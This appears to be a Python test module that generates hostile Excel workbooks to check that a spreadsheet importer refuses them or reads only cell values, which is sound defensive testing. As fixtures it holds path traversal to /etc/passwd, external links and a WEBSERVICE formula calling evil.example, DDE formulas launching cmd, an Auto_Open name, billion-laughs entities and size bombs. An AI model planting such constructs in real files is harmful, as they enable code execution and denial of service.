"""Excel files with something wrong inside, as evidence and as a table that somebody imports."""

import zipfile
from collections.abc import Iterator
from functools import partial
from io import BytesIO

from openpyxl import Workbook

from reports.importing import spreadsheets
from reports.screening import formats
from tests.hostile import files
from tests.hostile.files import ANY, DOCTYPE, LINE, OLE, Hostile, docx, xlsx
from tests.hostile.word_files import LAUGHS
from tests.importing.word.packages import package

_NAME = "台账.xlsx"
_refused, _read = partial(files.refused, name=_NAME), partial(files.read, name=_NAME)
_SPACE = "http://schemas.openxmlformats.org"
_SHEETS = f"{_SPACE}/spreadsheetml/2006/main"
_LINKS = f"{_SPACE}/officeDocument/2006/relationships"
_RELS = f"{_SPACE}/package/2006/relationships"
_TYPES = f"{_SPACE}/package/2006/content-types"
_SHEET = "xl/worksheets/sheet1.xml"
_FIRST = f'<c r="A1" t="inlineStr"><is><t>{LINE}</t></is></c>'


def hostile() -> Iterator[Hostile]:
    """Those that are refused, and those of which only cells' values come in."""
    yield from _containers()
    yield from _programs()
    yield from _cells()
    yield from _places()
    yield from _amounts()


def book(rows: str = "", members: dict[str, str | bytes] | None = None, **more: str) -> bytes:
    """A workbook written part by part: the inside of its first sheet's data, and of the parts that `more` names."""
    inside = {"before": "", "after": "", "sheets": '<sheet name="表" sheetId="1" r:id="r1"/>', "names": ""} | more
    usual: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        f'spreadsheetml.sheet.main+xml"/><Override PartName="/{_SHEET}" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": _relationship("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": f'<workbook xmlns="{_SHEETS}" xmlns:r="{_LINKS}"><sheets>{inside["sheets"]}</sheets>'
        f"{inside['names']}</workbook>",
        "xl/_rels/workbook.xml.rels": _relationship("worksheet", "worksheets/sheet1.xml"),
        _SHEET: f'<worksheet xmlns="{_SHEETS}">{inside["before"]}<sheetData>{rows or f"<row>{_FIRST}</row>"}'
        f"</sheetData>{inside['after']}</worksheet>",
    }
    return package(usual | (members or {}))


def _relationship(kind: str, target: str, more: str = "") -> str:
    one = f'<Relationship Id="r1" Type="{_LINKS}/{kind}" Target="{target}"{more}/>'
    return f'<Relationships xmlns="{_RELS}">{one}</Relationships>'


def _cell(inside: str, **attributes: str) -> bytes:
    """A sheet with heads and one cell beside them."""
    said = "".join(f' {name}="{value}"' for name, value in attributes.items())
    return book(f'<row r="1">{_FIRST}<c r="B1"{said}>{inside}</c></row>')


def _containers() -> Iterator[Hostile]:
    old, other = spreadsheets.NO_EXCEL, formats.OTHER_CONTENT
    yield _refused("an old workbook under the new name", OLE + bytes(600), formats.OLD_FORMAT, old)
    locked = OLE + "EncryptedPackage".encode("utf-16-le")
    yield _refused("a workbook with a password", locked, formats.ENCRYPTED, old)
    yield _refused("commas under the name of a workbook", "代码,名称\n1,甲".encode(), other, old)
    page = "<html><table><tr><td>代码</td></tr></table></html>"
    yield _refused("a web page under the name of a workbook", page.encode(), other, old)
    yield _refused("a Word file under the name of a workbook", docx(), other, old)
    binary = book(members={"xl/workbook.bin": b"\x83\x01\x00"})
    yield _read("a binary workbook beside", binary)
    yield _refused("no workbook", package({_SHEET: "<worksheet/>"}), other, old)
    for what, target in (("elsewhere", "../../../etc/passwd"), ("nowhere", "worksheets/sheet9.xml")):
        rels = _relationship("worksheet", target)
        yield _refused(f"a sheet that lies {what}", book(members={"xl/_rels/workbook.xml.rels": rels}), "", old)
    itself = _relationship("worksheet", "workbook.xml")
    yield _refused(
        "a sheet that is the workbook", book(members={"xl/_rels/workbook.xml.rels": itself}), "", spreadsheets.EMPTY
    )
    outside = _relationship("worksheet", "http://evil.example/s.xml", ' TargetMode="External"')
    yield _refused("a sheet of another site", book(members={"xl/_rels/workbook.xml.rels": outside}), "", old)
    yield _refused("a workbook without sheets", book(sheets=""), "", old)
    yield _refused(
        "a sheet that isn't closed", book(members={_SHEET: f'<worksheet xmlns="{_SHEETS}">'}), formats.DAMAGED, old
    )
    yield _refused("styles that aren't closed", book(members={"xl/styles.xml": "<styleSheet"}), "", old)
    nested = book(members={"xl/embeddings/b.xlsx": xlsx()})
    yield _read("a workbook in a workbook", nested, evidence=formats.NESTED)


def _programs() -> Iterator[Hostile]:
    no, active = spreadsheets.NO_EXCEL, formats.ACTIVE
    for what, encoding in (("", "utf-8"), (" in UTF-16", "utf-16")):
        data = book(members={_SHEET: (DOCTYPE + "<d>&e;</d>").encode(encoding)})
        yield _refused(f"declared entities{what} in a sheet", data, active, no)
    strings = LAUGHS + "<sst><si><t>&a9;</t></si></sst>"
    yield _refused("a billion laughs among the texts", book(members={"xl/sharedStrings.xml": strings}), active, no)
    yield _read("macros in a workbook", book(members={"xl/vbaProject.bin": b"x"}), evidence=active)
    yield _read("a control", book(members={"xl/activeX/activeX1.xml": "<x/>"}), evidence=active)
    dde = f'<externalLink xmlns="{_SHEETS}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield _read("a link to another program", book(members={"xl/externalLinks/externalLink1.xml": dde}), evidence=active)
    away = _relationship("externalLinkPath", "\\\\evil\\share\\a.xlsx", ' TargetMode="External"')
    link: dict[str, str | bytes] = {"xl/externalLinks/_rels/externalLink1.xml.rels": away}
    yield _read("cells of another computer", book(members=link), evidence=formats.OUTSIDE)
    query = '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example/"/></connection></connections>'
    yield _read("a table that is fetched on opening", book(members={"xl/connections.xml": query}))
    old_macro = '<sheet name="表" sheetId="1" r:id="r1"/><sheet name="宏" sheetId="2" state="veryHidden" r:id="r1"/>'
    yield _read("a sheet that nobody may see", book(sheets=old_macro))
    names = '<definedNames><definedName name="_xlnm.Auto_Open">CALL("x")</definedName></definedNames>'
    yield _read("a name that runs on opening", book(names=names))


def _cells() -> Iterator[Hostile]:
    no = spreadsheets.NO_EXCEL
    program = "cmd|' /C calc'!A0"
    yield _read("a formula that starts a program", _cell(f"<f>{program}</f><v>7</v>"), f"{LINE}|7")
    yield _read("a formula without a value", _cell('<f>WEBSERVICE("http://evil.example/")</f>'))
    yield _read(
        "a text that looks like a formula", _cell(f"<is><t>={program}</t></is>", t="inlineStr"), f"{LINE}|={program}"
    )
    yield _read("a fault", _cell("<v>#REF!</v>", t="e"), f"{LINE}|#REF!")
    yield _refused("a text that isn't there", _cell("<v>1000000000</v>", t="s"), "", no)
    yield _refused("the text before the first", _cell("<v>-1</v>", t="s"), "", no)
    yield _refused("a text of no number", _cell("<v>x</v>", t="s"), "", no)
    yield _read("a kind that nobody knows", _cell("<v>7</v>", t="zz"), ANY)
    yield _read("neither true nor false", _cell("<v>2</v>", t="b"), f"{LINE}|True")
    yield _refused("a number that is none", _cell("<v>七</v>"), "", no)
    yield _read("a number without an end", _cell("<v>1e999</v>"), f"{LINE}|inf")
    yield _refused("no number at all", _cell("<v>nan</v>"), "", no)
    yield _refused("a number of 5,000 digits", _cell(f"<v>{'9' * 5_000}</v>"), "", no)
    yield _refused("a day that is none", _cell("<v>2026-02-30</v>", t="d"), "", no)
    yield _read("a style that isn't there", _cell("<v>7</v>", s="99999"), ANY)
    yield _read("a NUL written out", _cell("<is><t>_x0000_甲_xD800_</t></is>", t="inlineStr"), ANY)
    yield _read("a text that runs backwards", _cell("<is><t>甲\u202e乙</t></is>", t="inlineStr"), f"{LINE}|甲\u202e乙")
    phonetic = "<is><r><t>甲</t></r><rPh><t>jia</t></rPh></is>"
    yield _refused("a text whose sound stands nowhere", _cell(phonetic, t="inlineStr"), "", no)
    for what, number in (("far ahead", "99999999"), ("before time", "-99999")):
        workbook, file = Workbook(), BytesIO()
        sheet = workbook.worksheets[0]
        sheet["A1"], sheet["B1"] = LINE, 1
        sheet["B1"].number_format = "yyyy-mm-dd"
        workbook.save(file)
        data = file.getvalue()
        yield _read(f"a day {what}", _with(data, _SHEET, b"<v>1</v>", f"<v>{number}</v>".encode()), ANY)


def _places() -> Iterator[Hostile]:
    def row(number: str, *cells: str) -> str:
        return f'<row r="{number}">{"".join(cells)}</row>'

    last = '<c r="XFD1048576"><v>7</v></c>'
    yield _refused("one cell at the very end", book(row("1048576", last)), "", spreadsheets.TOO_MANY_ROWS)
    yield _read("a row of 16,384 columns", book(row("1", _FIRST, '<c r="XFD1"><v>7</v></c>')))
    yield _read("a cell in row 0", book(row("1", _FIRST, '<c r="A0"><v>7</v></c>')), ANY)
    for what, name in (("a column that no sheet has", "ZZZZZZ1"), ("nowhere", "1A")):
        data = book(row("1", _FIRST, f'<c r="{name}"><v>7</v></c>'))
        yield _refused(f"a cell in {what}", data, "", spreadsheets.NO_EXCEL)
    yield _read("rows that run backwards", book(row("9", _FIRST) + row("2", '<c r="A2"><v>7</v></c>')), ANY)
    yield _refused("a row without end", book(row("99999999999999999999", _FIRST)), "", spreadsheets.TOO_MANY_ROWS)
    yield _refused("a row of no number", book(row("x", _FIRST)), "", spreadsheets.NO_EXCEL)
    whole = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield _read("all cells in one", book(after=whole))
    yield _read("a size of the whole sheet", book(before='<dimension ref="A1:XFD1048576"/>'))
    yield _read("a size of nowhere", book(before='<dimension ref="x"/>'), ANY)


def _amounts() -> Iterator[Hostile]:
    large, many = spreadsheets.TOO_LARGE, spreadsheets.TOO_MANY_ROWS
    yield _refused("6,002 rows", book("<row/>" * 6_001 + f"<row>{_FIRST}</row>"), "", many)
    cells = "<row>" + "<c/>" * 1_000 + "</row>"
    yield _refused("2,100,000 cells without anything", book(cells * 2_100), formats.TOO_PACKED, large)
    texts = "<sst>" + "<si><t/></si>" * 700_000 + "</sst>"
    yield _refused(
        "700,000 texts without anything", book(members={"xl/sharedStrings.xml": texts}), formats.TOO_PACKED, large
    )
    yield _refused("60 MB of nothing", book(members={"xl/a.bin": bytes(60_000_000)}), formats.TOO_PACKED, large)
    parts: dict[str, str | bytes] = {f"xl/{n}.xml": "<x/>" for n in range(300)}
    yield _refused("300 parts", book(members=parts), "", large)
    long = "".join(f"{n * 2654435761 % 2**32:08x}" for n in range(20_000))
    yield _read("a text longer than any cell", _cell(f"<is><t>{long}</t></is>", t="inlineStr"), ANY)


def _with(data: bytes, name: str, before: bytes, after: bytes) -> bytes:
    """The container with words of a member exchanged."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        members = {one: archive.read(one) for one in archive.namelist()}
    return package(members | {name: members[name].replace(before, after)})
